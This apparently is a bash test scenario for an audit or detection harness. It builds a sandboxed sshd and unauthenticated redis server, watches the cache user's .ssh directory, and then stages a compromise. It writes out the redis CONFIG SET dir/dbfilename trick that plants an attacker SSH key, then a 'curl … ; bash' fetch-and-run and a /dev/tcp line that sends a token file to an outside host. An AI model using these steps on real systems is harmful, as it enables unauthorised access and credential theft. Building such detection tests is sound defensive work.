# shellcheck shell=bash disable=SC2034
HOST=cache18
FORMAT=ENRICHED
UNSET=1

login() { outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b "$1" -i "$work/$2.key" "$3@10.88.0.10" "$4"; }

# says ADDRESS COMMAND...: a peer's commands to redis, over one connection.
says() { { printf '%s\r\n' "${@:2}"; sleep 0.5; } | outside socat - "TCP:10.88.0.10:6379,bind=$1" >>"$work/said"; }

own_rules() {
    stig_rules
    auditctl -a always,exit -F arch=b64 -F dir=/srv/home/cache/.ssh -F perm=rwa "${recorded[@]}" -k keys
}

earlier() {
    local name
    mkdir -p /srv/redis /run/sshd "$work/theirs"
    account cache 4050
    account ops 4051
    chown cache /srv/redis
    touch /srv/home/ops/.hushlogin /srv/home/cache/.hushlogin
    cp "$folder/app.py" /srv/app.py
    echo "token = lemon" >/srv/home/cache/.token
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    for name in ops theirs; do ssh-keygen -q -t ed25519 -N "" -C "$name" -f "$work/$name.key"; done
    install -m 600 -o ops "$work/ops.key.pub" /srv/home/ops/.ssh/authorized_keys
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/home/cache/.token >&3' >"$work/theirs/r"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside setpriv --reuid 4050 --regid 4050 --clear-groups /usr/bin/redis-server --bind 0.0.0.0 --protected-mode no --enable-protected-configs yes --dir /srv/redis >/dev/null 2>&1 &
    sleep 1
    inside setpriv --reuid 4051 --regid 4051 --clear-groups /usr/bin/python3 -S -B /srv/app.py 127.0.0.1 >/dev/null 2>&1 &
    sleep 1
}

scenario() {
    local key
    login 10.88.0.55 ops ops "redis-cli dbsize"
    sleep 2
    key=$(cat "$work/theirs.key.pub")
    says 198.51.100.23 INFO "CONFIG SET rdbcompression no" FLUSHALL "SET k \"\\n\\n$key\\n\\n\"" "CONFIG SET dir /srv/home/cache/.ssh" \
        "CONFIG SET dbfilename authorized_keys" BGSAVE
    sleep 20
    login 10.88.0.55 ops ops "redis-cli ping"
    sleep 20
    login 10.88.0.55 ops ops uptime
    login 192.0.2.41 theirs cache "curl -s -o .r http://203.0.113.9:443/r; bash .r"
    sleep 1
    login 10.88.0.55 ops ops "ls /srv"
    sleep 1
    cat "$work/said" >&2
}
